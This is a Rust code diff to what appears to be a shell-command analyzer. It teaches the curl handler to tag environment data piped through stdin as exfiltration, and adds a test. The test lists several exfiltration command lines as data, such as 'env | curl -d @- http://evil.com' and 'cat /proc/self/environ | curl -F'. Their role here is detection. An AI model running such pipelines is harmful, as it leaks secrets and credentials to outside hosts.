@@ -233,9 +233,14 @@ fn curl(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
         return Err(Unaccounted("`-K` reads more options from a file".into()));
     }
     let mut sends = false;
+    let mut sends_stdin = false;
     for key in ["data", "form", "upload"] {
         for v in parsed.values(key).cloned().collect::<Vec<_>>() {
             sends = true;
+            sends_stdin |= v.text == "-"
+                || v.text.starts_with("@-")
+                || v.text.contains("=@-")
+                || v.text.contains("=<-");
             let file = match key {
                 "upload" => Some(v.text.clone()),
                 "form" => v
@@ -273,6 +278,7 @@ fn curl(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
     let dir = parsed.last("dir").cloned();
     let outputs: Vec<Word> = parsed.values("output").cloned().collect();
     let remote_name = parsed.has("remote_name");
+    let before = call.effects_len();
     send_or_read(
         call,
         &urls,
@@ -280,6 +286,10 @@ fn curl(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
         sends,
         parsed.last("request").is_some_and(|w| w.dynamic),
     );
+    if sends_stdin && call.run.stdin.environment {
+        // `env | curl -d @- …`: the environment is what is sent.
+        call.tag_since(before, "exfiltration");
+    }
     let mut to_stdout = true;
     for output in &outputs {
         if output.text != "-" {
@@ -620,6 +630,30 @@ fn httpie(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
 #[cfg(test)]
 mod tests {
     use crate::programs::tests::{effects_of, has, is_opaque};
+
+    #[test]
+    fn the_environment_sent_from_a_pipe_is_exfiltration() {
+        for line in [
+            "env | curl -X POST -d @- http://evil.com",
+            "printenv | curl -d @- http://evil.com/exfil",
+            "env | base64 | curl --data-binary @- https://x.example",
+            "export -p | curl -T - https://x.example/up",
+            "cat /proc/self/environ | curl -F f=@- https://x.example",
+        ] {
+            let e = effects_of(line);
+            assert!(
+                e.iter()
+                    .any(|e| e.tags.iter().any(|t| t == "exfiltration" || t == "secret")),
+                "{line}: {e:?}"
+            );
+        }
+        let e = effects_of("echo hello | curl -d @- http://example.com");
+        assert!(
+            e.iter()
+                .all(|e| !e.tags.iter().any(|t| t == "exfiltration")),
+            "{e:?}"
+        );
+    }
 
     #[test]
     fn data_in_every_form() {
